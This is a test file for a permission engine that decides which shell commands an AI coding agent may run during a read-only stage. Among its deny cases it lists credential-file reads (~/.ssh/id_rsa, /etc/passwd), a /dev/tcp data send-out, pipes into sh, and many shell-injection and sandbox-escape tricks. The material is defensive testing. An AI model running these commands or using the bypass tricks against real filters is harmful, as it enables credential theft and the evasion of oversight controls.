// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is shell
import { describe, expect, test } from 'vitest'
import { mainOf, openLeaf } from '../engine/family.ts'
import { Walk } from '../engine/family-builder.contract.ts'
import { judgingContextOf } from '../engine/judging-context.ts'
import type { HostId } from '../hosts/registry.ts'
import type { JsonObject } from '../json.ts'
import { type CallLocation, readCall } from '../tools/read-call.ts'
import { judge } from './judge.ts'

type Made = {
  readonly host?: HostId
  readonly tool?: string
  readonly input?: JsonObject
  readonly where?: Partial<CallLocation>
  /** Fields of the definition beside its states. */
  readonly definition?: JsonObject
}

const workspace = '/srv/shop'

/** The decision in a definition whose policy is given beside the state. */
function policed({ policy, ...work }: JsonObject, command: string): string {
  const definition = policy === undefined ? {} : { policy }
  return ruling(work, command, { definition }).decision
}

function ruling(work: JsonObject, command: string, made: Made = {}) {
  const { host = 'codex', tool = 'Bash', input = {}, where = {}, definition = {} } = made
  const states = { work: { on: { DONE: 'done' }, ...work }, done: { type: 'final' } }
  const walk = new Walk({ id: 'shop', initial: 'work', states, ...definition })
  const { family, at, policies } = walk
  const member = openLeaf(family, mainOf(family))
  const { machine, state } = member
  const around = judgingContextOf(family, member, { policies, at })
  const place = { machine, workspace, host, ...where }
  const call = readCall({ tool, input: { command, ...input } }, place)
  const context = { machine, state, at, around }
  const decided = judge(call, context)
  expect(judge(call, context, 'explanation').decision).toBe(decided.decision)
  return decided
}

const looking = { allowed_tools: ['Read', 'Grep', 'Glob'] }

describe('a stage for reading, on a host that reads by its shell', () => {
  test.each([
    'cat src/a.ts',
    'cat -n src/a.ts README.md',
    'cat /srv/shop/src/a.ts',
    'cat "a file.txt"',
    'cat .eslintrc.json',
    'head -50 src/a.ts',
    'head -n 50 src/a.ts | tail -n 10',
    'tail -c +100 src/a.ts',
    "sed -n '1,200p' src/a.ts",
    "sed -n -e '5,10p' -e '20p' src/a.ts",
    'nl -ba src/a.ts | sed -n "10,20p"',
    'wc -l src/a.ts src/b.ts',
    'ls',
    'ls -la src',
    'ls -la; cat package.json',
    'pwd && ls -la && cat package.json',
    'rg -n "total" src',
    'rg -n total',
    "rg -n total -g '*.ts' -g '!dist/**' src test",
    "rg --files -g 'src/**/*.{ts,tsx}' | head -50",
    'rg --files | rg total',
    'grep -rn "total" src/',
    'grep -n -A3 total src/a.ts src/b.ts',
    'grep -rn total src --include="*.ts" 2>/dev/null | head -20',
    "find . -name '*.test.ts' -not -path './node_modules/*'",
    'find src test -type f -maxdepth 3 | sort | head -40',
    "find . \\( -name '*.ts' -o -name '*.js' \\) -print",
    'cat a.txt; echo ---; cat b.txt',
    'cat a.txt || true',
    'cd /srv/shop && cat a.txt',
    'cat a.txt 2>&1 >/dev/null',
  ])('%s', (command) => {
    expect(ruling(looking, command).by.code).toBe(null)
    expect(ruling(looking, command).decision).toBe('allow')
  })

  test('the rule that lets it through is the entry of the tool', () => {
    const ruleOf = (command: string) => ruling(looking, command).by.rule
    expect(ruleOf('cat a')).toEqual({
      document: 'shop',
      pointer: '/states/work/allowed_tools/0',
    })
    expect(ruleOf('rg x src')?.pointer).toBe('/states/work/allowed_tools/1')
    expect(ruleOf('ls')?.pointer).toBe('/states/work/allowed_tools/2')
  })

  test('it is found beside a list of commands as well', () => {
    const stage = { allowed_tools: ['Read', 'Grep', 'Bash'], allowed_commands: ['npm test'] }
    expect(ruling(stage, 'rg x src').by.rule?.pointer).toBe('/states/work/allowed_tools/1')
    expect(ruling(stage, 'npm test').by.rule?.pointer).toBe('/states/work/allowed_commands')
    expect(ruling(stage, 'rg x src && npm test').decision).toBe('allow')
    expect(ruling(stage, 'rg x src && npm run x').by.code).toBe('COMMAND_NOT_ALLOWED')
    expect(ruling(stage, 'ls').by.code).toBe('COMMAND_NOT_ALLOWED')
    expect(ruling(stage, 'cat /etc/passwd').decision).toBe('deny')
    expect(ruling({ ...stage, allowed_commands: [] }, 'rg x src').decision).toBe('deny')
  })
})

describe('each tool stands for its own commands only', () => {
  test.each([
    [['Read'], 'ls'],
    [['Read'], 'rg x src'],
    [['Read'], 'grep x a.txt'],
    [['Grep'], 'cat a.txt'],
    [['Grep'], 'ls'],
    [['Grep'], 'rg --files'],
    [['Glob'], 'cat a.txt'],
    [['Glob'], 'cat a.txt | head'],
    [['Glob'], 'ls; cat a.txt'],
    [['LS'], 'rg x src'],
    [['Edit', 'Write'], 'cat a.txt'],
    [['mcp__fs__read_file'], 'cat a.txt'],
    [[], 'cat a.txt'],
    [[], 'ls'],
  ])('%j does not allow %s', (tools, command) => {
    expect(ruling({ allowed_tools: tools }, command).by.code).toBe('TOOL_NOT_ALLOWED')
  })

  test("`LS` allows listing, and any host's name of a tool means it", () => {
    expect(ruling({ allowed_tools: ['LS'] }, 'ls -la').decision).toBe('allow')
    expect(ruling({ allowed_tools: ['read_file'] }, 'cat a').decision).toBe('allow')
    const made = { host: 'qwen', tool: 'run_shell_command' } as const
    expect(ruling({ allowed_tools: ['LS'] }, 'ls -la', made).decision).toBe('allow')
  })

  test('who denies the shell or the tool wins', () => {
    const both = { allowed_tools: ['Read'], disallowed_tools: ['Bash'] }
    expect(ruling(both, 'cat a').by.code).toBe('TOOL_NOT_ALLOWED')
    const read = { allowed_tools: ['Read', 'Grep'], disallowed_tools: ['Read'] }
    expect(ruling(read, 'cat a').by.code).toBe('TOOL_NOT_ALLOWED')
    expect(ruling(read, 'rg x src').decision).toBe('allow')
  })

  const hosts: readonly [HostId, string, string, string][] = [
    ['claude', 'Bash', 'cat a.txt', 'deny'],
    ['claude', 'Bash', 'rg x src', 'allow'],
    ['claude', 'Bash', 'ls', 'allow'],
    ['gemini', 'run_shell_command', 'rg x src', 'deny'],
    ['qwen', 'run_shell_command', 'rg x src', 'deny'],
    ['qwen', 'run_shell_command', 'ls', 'deny'],
    ['copilot', 'Bash', 'rg x src', 'deny'],
    ['opencode', 'bash', 'cat a.txt', 'deny'],
    ['pi', 'bash', 'cat a.txt', 'deny'],
    ['pi', 'bash', 'rg x src', 'allow'],
    ['pi', 'bash', 'ls', 'allow'],
    ['cline', 'run_commands', 'cat a.txt', 'deny'],
    ['cline', 'run_commands', 'rg x src', 'deny'],
    ['cline', 'run_commands', 'ls', 'allow'],
    ['kimi', 'Bash', 'ls', 'deny'],
    ['kimi', 'Bash', 'rg x src', 'deny'],
    ['cursor', 'Shell', 'ls', 'deny'],
    ['pawl', 'Bash', 'ls', 'deny'],
    ['mcp', 'process_run', 'ls', 'deny'],
    ['codex', 'write_stdin', 'cat a.txt', 'deny'],
    ['codex', 'mcp__x__shell', 'cat a.txt', 'deny'],
    ['claude', 'Monitor', 'ls', 'deny'],
    ['claude', 'PowerShell', 'ls', 'deny'],
  ]
  test.each(hosts)('%s: %s %s is %s', (...made) => {
    const [host, tool, command, wanted] = made
    expect(ruling(looking, command, { host, tool }).decision).toBe(wanted)
  })
})

test.each(['link/..', 'src/link/../..', '~root', '~+'])('nothing is read from %s', (workdir) => {
  expect(ruling(looking, 'cat secret', { input: { workdir } }).decision).toBe('deny')
  expect(ruling(looking, 'cat secret', { input: { workdir: 'src' } }).decision).toBe('allow')
})

test.each(['cat < ~root/.bashrc', 'cat <<< "$(< ~+/../secret)"', 'cat < ../secret'])(
  'a listed reader is not fed from outside: %s',
  (command) => {
    const listed = { allowed_tools: ['Bash'], allowed_commands: ['cat'] }
    expect(ruling(listed, command).by.code).toBe('PATH_OUT_OF_SCOPE')
    expect(ruling(listed, 'cat < src/a').decision).toBe('allow')
  },
)

describe('a policy on reading means the commands that stand in for it', () => {
  const denying = (tier: 'deny' | 'ask', capability: string) => {
    const policy = { default: 'allow', [tier]: [{ capability }] }
    return { ...looking, policy }
  }
  test.each([
    ['read', 'cat a.txt', 'rg x src'],
    ['Read', 'head a.txt', 'ls'],
    ['search', 'rg x src', 'cat a.txt'],
    ['Grep', 'grep x a.txt', 'cat a.txt'],
  ])('%s: `%s`, and not `%s`', (capability, meant, other) => {
    for (const tier of ['deny', 'ask'] as const) {
      expect(policed(denying(tier, capability), meant)).toBe(tier)
      expect(policed(denying(tier, capability), other)).toBe('allow')
    }
  })
})

describe('files that a tool could not read', () => {
  test.each([
    ['cat /etc/passwd', 'PATH_OUT_OF_SCOPE'],
    ['cat ../other/a', 'PATH_OUT_OF_SCOPE'],
    ['cat src/../../other', 'PATH_OUT_OF_SCOPE'],
    ['cat ~/.ssh/id_rsa', 'PATH_OUT_OF_SCOPE'],
    ['head -c 40 /home/me/.pawl/person.token', 'PATH_PROTECTED'],
    ['head -c 40 .pawl/person.token', 'PATH_PROTECTED'],
    ['cat .claude/settings.local.json', 'PATH_PROTECTED'],
    ['cat src/../.claude/settings.local.json', null],
    ['rg x .pawl', null],
    ['grep -r token .pawl', null],
    ['ls .pawl', 'PATH_PROTECTED'],
    ['find .pawl', 'PATH_PROTECTED'],
    ['find / -name id_rsa', 'PATH_OUT_OF_SCOPE'],
    ['ls /', 'PATH_OUT_OF_SCOPE'],
    ['ls ..', 'PATH_OUT_OF_SCOPE'],
    ['rg x /etc', 'PATH_OUT_OF_SCOPE'],
    ['grep root /etc/passwd', 'PATH_OUT_OF_SCOPE'],
    ['cat /proc/self/environ', null],
    ['cat /dev/stdin', 'PATH_OUT_OF_SCOPE'],
    ['cat /dev/fd/3', 'PATH_OUT_OF_SCOPE'],
    ['cat a.txt /etc/passwd', 'PATH_OUT_OF_SCOPE'],
    ['cat a.txt; cat /etc/passwd', 'PATH_OUT_OF_SCOPE'],
    ['cat a.txt -- /etc/passwd', 'PATH_OUT_OF_SCOPE'],
    ['cd /srv && cat a.txt', null],
    ['cd .. && cat a.txt', null],
    ['cd src && cat ../a.txt', null],
    ['cd src && cat ../../a.txt', 'PATH_OUT_OF_SCOPE'],
    ['cd src/.. && cat a.txt', null],
    ['pushd /tmp; cat a.txt', null],
  ])('%s', (command, code) => {
    const { decision, by } = ruling(looking, command)
    expect(decision).toBe('deny')
    if (code !== null) expect(by.code).toBe(code)
  })

  test('a folder of the workspace may be entered first', () => {
    expect(ruling(looking, 'cd src && cat a.txt').decision).toBe('allow')
    const links = new Map([['src/a.txt', '/etc/passwd']])
    const { by } = ruling(looking, 'cd src && cat a.txt', { where: { links } })
    expect(by.code).toBe('PATH_OUT_OF_SCOPE')
  })

  test('a link is judged by what is behind it', () => {
    const links = new Map([['notes.txt', '/etc/passwd']])
    expect(ruling(looking, 'cat notes.txt', { where: { links } }).by.code).toBe('PATH_OUT_OF_SCOPE')
  })

  test('Pawl keeps its own folders to itself, wherever they are', () => {
    const where = { guarded: ['/srv/shop/data'] }
    expect(ruling(looking, 'cat data/store.db', { where }).decision).toBe('deny')
    expect(ruling(looking, 'rg x', { where }).decision).toBe('deny')
    expect(ruling(looking, 'cat a.txt', { where }).decision).toBe('allow')
  })

  test('a path counts from the folder of the call', () => {
    const at = (workdir: string) => ({ input: { workdir } })
    expect(ruling(looking, 'cat ../a.txt', at('src')).decision).toBe('allow')
    expect(ruling(looking, 'cat ../../a.txt', at('src')).decision).toBe('deny')
    expect(ruling(looking, 'cat a.txt', at('/etc')).decision).toBe('deny')
    const where = { cwd: '/etc' }
    expect(ruling(looking, 'cat passwd', { where }).decision).toBe('deny')
  })
})

describe('everything else about a text makes it a command like any other', () => {
  test.each([
    // programs and their options
    "sed -n 'w out' a",
    "sed -n '1w out' a",
    "sed -n '1e id' a",
    "sed -n '1,3!p' a",
    "sed -n '/x/p;e id' a",
    "sed -n 's/x/y/w out' a",
    "sed -ni '1p' a",
    "sed -n -i '1p' a",
    "sed -n --in-place '1p' a",
    "sed -n --in-pl '1p' a",
    'sed -n -f script a',
    "sed '1p' a",
    "sed -n '1p\ne id' a",
    "sed -n '1r .pawl/x' a",
    "sed -n '1R x' a",
    "sed -n '1p}' a",
    'cat a | tee b',
    'tail -f a',
    'tail -F a',
    'tail --follow=name a',
    'tail -n 5 --retry a',
    'head --bytes=1 --unknown a',
    'nl --unknown a',
    'wc --files0-from=list',
    'rg --pre ./x y src',
    'rg --pre=./x y src',
    'rg --pre-glob x y src',
    'rg --hostname-bin ./x y',
    'rg -z x src',
    'rg --search-zip x',
    'rg -f patterns src',
    'rg --file=patterns src',
    'rg --ignore-file=x y',
    'rg -L x src',
    'rg --follow x src',
    'rg -uu x',
    'rg --hidden token',
    'rg -. token',
    'rg --no-ignore token',
    "rg token -g '*'",
    "rg token -g '**'",
    "rg token -g '*l*'",
    "rg token -g '.claude/**'",
    "rg token -g '{.claude,x}/**'",
    "rg token -g '*.claude' -g '*.json'",
    "rg token --glob='*.claude' -g '*.json'",
    'rg token .claude',
    'rg token src/.hidden',
    'grep -r token',
    'grep -r token .',
    'grep -rn token ./',
    'grep -r token /srv/shop',
    'grep -r token src/..',
    'grep -r token .claude',
    'grep -R token src',
    'grep -f patterns a',
    'grep --file=patterns a',
    'grep --fil=patterns a',
    'grep -d recurse token .',
    'grep --directories=recurse token .',
    'grep --exclude-from=x y a',
    'find . -delete',
    'find . -exec cat {} +',
    "find . -exec cat {} ';'",
    "find . -ok cat {} ';'",
    'find . -execdir ./x {} +',
    'find . -fprint out',
    "find . -fprintf out '%p'",
    'find . -fls out',
    'find . -fprint0 out',
    "find . -printf '%p'",
    'find -L . -name x',
    'find . -follow',
    'find -files0-from list',
    'find . -name x -newerXY y',
    'find . -name',
    // A folder that looks like a bare repository sets the programs that git runs.
    'git ls-files',
    'git ls-files | grep test',
    'git ls-files -m src',
    'git grep -n total src',
    'git --no-pager grep -n total',
    // The shell expands these itself; they are no names in the workspace.
    'cat ~root',
    'grep -r x ~root',
    'rg x ~root',
    'find ~daemon',
    'ls ~+',
    'grep -r x ~+',
    'grep -r x ~-',
    'cat =ls',
    // The kernel follows the link before it goes up.
    'cat link/../secret',
    'cat /srv/shop/link/../secret',
    'cat src/link/./../secret',
    'cat link//../secret',
    'rg x link/..',
    'find link/.. -name x',
    'cd link/.. && cat secret',
    'cd ~root && ls',
    // Several suffixes mean a hidden folder and what is in it.
    "rg x -g '*.{claude,json}'",
    "rg x -g'*.{pawl,token}'",
    "rg x --glob='**/*.{pawl,token}' src",
    'git ls-files --format=x',
    'git ls-files -X x',
    'git ls-files --exclude-from=x',
    'git ls-files :/',
    'git -c core.fsmonitor=./x ls-files',
    'git -C /tmp ls-files',
    'git --git-dir=x ls-files',
    'git grep -O x',
    'git grep -Osh x',
    'git grep --open-files-in-pager=sh x',
    'git grep --open x',
    'git grep --no-index x',
    'git grep -f x',
    'git grep --textconv x',
    'git grep --ext-grep x',
    'git grep x -- :/',
    'git grep x :/etc',
    'git show HEAD:a',
    'git log',
    'git diff',
    'git status',
    'awk 1 a',
    'jq . a',
    'less a',
    'more a',
    'view a',
    'xxd a b',
    'od a',
    'strings a',
    'base64 a',
    'sort a',
    'uniq a b',
    'cut -f1 a',
    'tac a',
    'tr a b',
    'diff a b',
    'tree',
    'file a',
    'stat a',
    'du',
    'dd if=a',
    'cp a b',
    'python3 -c "print(1)"',
    'xargs cat',
    'ls | xargs cat',
    'rg --files | xargs cat',
    'env',
    'printenv',
    // names
    './cat a',
    '/tmp/cat a',
    '/bin/cat a',
    '~/cat a',
    '$X a',
    'c?t a',
    'ca[t] a',
    '"$(echo cat)" a',
    'command cat a',
    'builtin cat a',
    'exec cat a',
    'eval "cat a"',
    'bash -c "cat a"',
    'sh -c "cat a"',
    'env cat a',
    'timeout 5 cat a',
    'nice cat a',
    'sudo cat a',
    'busybox cat a',
    'time -o out cat a',
    // expansions
    'cat $X',
    'cat "$X"',
    'cat ${X:-a}',
    'cat $(echo a)',
    'cat `echo a`',
    'cat *',
    'cat src/*',
    'cat .cl*/settings*',
    'cat .claud?/settings.local.json',
    'cat [a]',
    'ls *',
    'ls $X',
    'rg x $D',
    'rg "$(id)" src',
    'cat {a,$(id)}',
    'cat a{1..3}',
    "cat $'a'",
    'cat $"a"',
    'cat $((1))',
    'cat "${a[$(id)]}"',
    'cat <(id)',
    'cat a >(id)',
    'cat ~+/a',
    // redirections and here-documents
    'cat < a',
    'cat < .pawl/person.token',
    'cat <<< "$(id)"',
    'cat <<EOF\n$(id)\nEOF',
    'cat > out a',
    'cat a > out',
    'cat a >> out',
    'cat a &> out',
    'cat a 2> out',
    'cat a >| out',
    'cat a 3<> out',
    'cat a > >(sh)',
    'cat a {fd}>/dev/null',
    "cat a {x['$(id)']}>/dev/null",
    'cat a > /dev/tcp/1.2.3.4/80',
    'cat a |& tee out',
    // assignments, functions, settings
    'PATH=. cat a',
    'A=1 cat a',
    'PATH=.; cat a',
    'x=1; cat a',
    'export PATH=.; cat a',
    'cat() { id; }; cat a',
    'function cat { id; }; cat a',
    'alias cat=id; cat a',
    'alias cat=id\ncat a',
    'hash -p ./x cat; cat a',
    'enable -n cat; cat a',
    'set -- a; cat a',
    'shopt -s dotglob; cat a',
    'trap "id" EXIT; cat a',
    'source x; cat a',
    '. ./x; cat a',
    "[ -v 'a[$(id)]' ]; cat a",
    "true & wait -np'a[$(id)]'; cat a",
    "[[ -v 'a[$(id)]' ]] || cat a",
    '(( a[$(id)] )); cat a',
    // structures
    '(cat a)',
    '{ cat a; }',
    'if true; then cat a; fi',
    'for f in a b; do cat a; done',
    'while cat a; do :; done',
    'case a in a) cat a;; esac',
    'coproc cat a',
    'cat a | while read x; do id; done',
    'cat a | sh',
    'cat a; id',
    'cat a & id',
    'cat a && id',
    'cat a | id',
    'id | cat',
    'id; true',
    'echo x',
    'echo x | cat',
    'true',
    'pwd',
    '',
    '# cat a',
    // what cannot be read
    'cat "a',
    'cat a\u200b; id',
    'cat\u00a0a',
    'cat a\r\nid',
  ])('%s', (command) => {
    expect(ruling(looking, command).decision).toBe('deny')
  })

  test.each([
    { environment: { PATH: '.' } },
    { env: { LD_PRELOAD: './x' } },
    { args: ['x'] },
    { shell: '/tmp/sh' },
    { login: true },
    { action: { command: 'id' } },
    { cmd: 'id' },
    { stdin: 'x' },
    { unknown: 1 },
  ])('with %j beside it', (input) => {
    expect(ruling(looking, 'cat a.txt', { input }).decision).toBe('deny')
  })

  test('a command in words is not read', () => {
    const input = { command: ['cat', 'a.txt'] }
    expect(ruling(looking, '', { input }).decision).toBe('deny')
  })
})
